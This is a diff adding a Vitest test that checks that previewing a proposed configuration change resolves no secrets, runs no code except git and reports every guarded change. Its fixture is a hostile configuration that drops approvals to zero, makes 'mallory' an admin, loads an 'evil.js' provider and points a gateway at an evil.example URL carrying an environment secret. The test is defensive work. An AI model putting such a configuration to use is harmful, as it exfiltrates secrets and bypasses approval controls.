@@ -1,0 +1,73 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { testSystem } from '../support/servers.ts';
+import { workflowFile } from '../support/workflows.ts';
+import { configuration, createProposal } from './previewed.ts';
+
+const canary = 'canary-4f1d';
+
+/** Loosens the rules, lets a provider of its own in, and asks for secrets where everybody would see them. */
+const hostile = `${configuration('version: latest, approvals: { min_approvals: 0, allowed_approvers: [mallory] }')
+  .replace('https://gateway.example', 'https://evil.example/?${env.CANARY}')
+  .replace('project: invoices', 'project: "${env.CANARY}"')}
+providers: { evil: { path: ./evil.js } }
+backups: { provider: evil }
+team: { mallory: { role: admin } }
+`;
+
+test('nothing that the head says of the configuration counts, runs or is resolved; all of it is told', async () => {
+  const asked: string[] = [];
+  const started: string[] = [];
+  const real = testSystem();
+  const proposal = createProposal(
+    { 'workflows/a.json': workflowFile('a') },
+    {
+      'workflows/a.json': workflowFile('a', ['read', 'sort']),
+      'm3forge.yaml': hostile,
+      'evil.js': 'throw new Error("run")',
+    },
+    {
+      env: (name) => {
+        asked.push(name);
+        return name === 'CANARY' || name.endsWith('_URL') ? `postgresql://u:${canary}@127.0.0.1:9/x` : real.env(name);
+      },
+      processes: {
+        ...real.processes,
+        run: (program, args, options) => {
+          started.push(program);
+          return real.processes.run(program, args, options);
+        },
+        start: (program, args, options) => {
+          started.push(program);
+          return real.processes.start(program, args, options);
+        },
+        startModule: () => {
+          throw new Error('no module of a head is started');
+        },
+      },
+    },
+  );
+  writeFileSync(join(proposal.directory, '.env'), `SECRET=${canary}\n`);
+  const document = await proposal.preview();
+
+  expect(document.project).toBe('invoices');
+  expect(document.targets).toMatchObject([
+    { target: 'staging', reason: 'by itself, once it is tagged' },
+    { target: 'production', reason: 'when somebody applies it, with 2 approvals', gateways: ['eu'] },
+  ]);
+  expect(document.configuration.filter(({ guards }) => guards).map(({ key, what }) => `${what} ${key}`)).toEqual(
+    expect.arrayContaining([
+      'added providers',
+      'added team',
+      'changed targets.production.approvals.min_approvals',
+      'added targets.production.approvals.allowed_approvers',
+    ]),
+  );
+  expect(JSON.stringify(document)).not.toContain(canary);
+  expect(new Set(started)).toEqual(new Set(['git']));
+  // Where programs are and how Git is set up, and nothing of anybody's secrets.
+  expect(
+    asked.filter((name) => !/^(PATH|HOME|TMPDIR|SystemRoot|XDG_CONFIG_HOME|GIT_CONFIG_GLOBAL)$/.test(name)),
+  ).toEqual([]);
+});
